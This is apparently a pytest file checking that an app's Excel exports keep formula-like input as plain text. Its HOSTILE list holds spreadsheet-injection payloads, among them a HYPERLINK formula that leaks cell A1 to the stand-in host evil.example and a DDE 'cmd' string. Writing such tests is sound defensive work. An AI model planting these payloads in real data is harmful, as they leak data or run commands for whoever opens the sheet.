"""Exports never write a cell a spreadsheet would run as a formula (reports/spreadsheets.py), whatever the sheet."""

from datetime import date, timedelta
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from reports.spreadsheets import formulas_as_text, workbook_response
from tests.services.helpers import beneficiary, log, staff_member, volunteer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list:
    """Every cell of every sheet of the workbook ``content``."""
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_kept_as_text(content: bytes, values) -> None:
    found = {cell.value: cell for cell in cells(content) if isinstance(cell.value, str)}
    for value in values:
        value = value.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert value in found, value
        assert found[value].data_type == "s", value
    assert not [cell.coordinate for cell in cells(content) if cell.data_type == "f"]


@pytest.mark.parametrize("write_only", [False, True], ids=["in memory", "write-only"])
def test_text_that_starts_a_formula_leaves_as_text_in_either_kind_of_workbook(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet() if write_only else workbook.active
    for value in HOSTILE:
        sheet.append([value, 3, "plain"])

    response = workbook_response(workbook, "x.xlsx")

    assert_kept_as_text(response.content, HOSTILE)
    numbers = [cell.value for cell in cells(response.content) if cell.data_type == "n"]
    assert numbers == [3] * len(HOSTILE)


def test_a_workbook_without_formulas_leaves_unchanged():
    workbook = Workbook(write_only=True)
    workbook.create_sheet().append(["张三", 1])
    buffer = BytesIO()
    workbook.save(buffer)

    assert formulas_as_text(buffer.getvalue()) == buffer.getvalue()


def test_a_service_records_place_is_text_in_the_officials_export(world, client):
    """The reported attack: ``=HYPERLINK(...)`` typed as the place became a live link in the county's Excel."""
    station = world.stations["S1"]
    person = beneficiary(station, 30, name="周阿公")
    log(station, world.users["worker"], date.today() - timedelta(days=2), people=[person], place=HOSTILE[0])
    client.force_login(world.users["county"])

    response = client.get(f"/services/stations/{station.pk}/records/export/")

    assert response.status_code == 200
    assert_kept_as_text(response.content, [HOSTILE[0]])


def test_a_staff_members_name_is_text_in_the_roster_export(world, client):
    station = world.stations["S1"]
    staff_member(station, 1, name="=1+2")
    client.force_login(world.users["manager"])

    response = client.get(f"/staffing/stations/{station.pk}/roster/export/")

    assert response.status_code == 200
    assert_kept_as_text(response.content, ["=1+2"])


def test_a_volunteers_skills_are_text_in_the_volunteer_list_export(world, client):
    station = world.stations["S1"]
    volunteer(station, 1, skills='=HYPERLINK("http://x")')
    client.force_login(world.users["manager"])

    response = client.get(f"/staffing/stations/{station.pk}/volunteers/", {"export": "xlsx"})

    assert response.status_code == 200
    assert not [cell.coordinate for cell in cells(response.content) if cell.data_type == "f"]
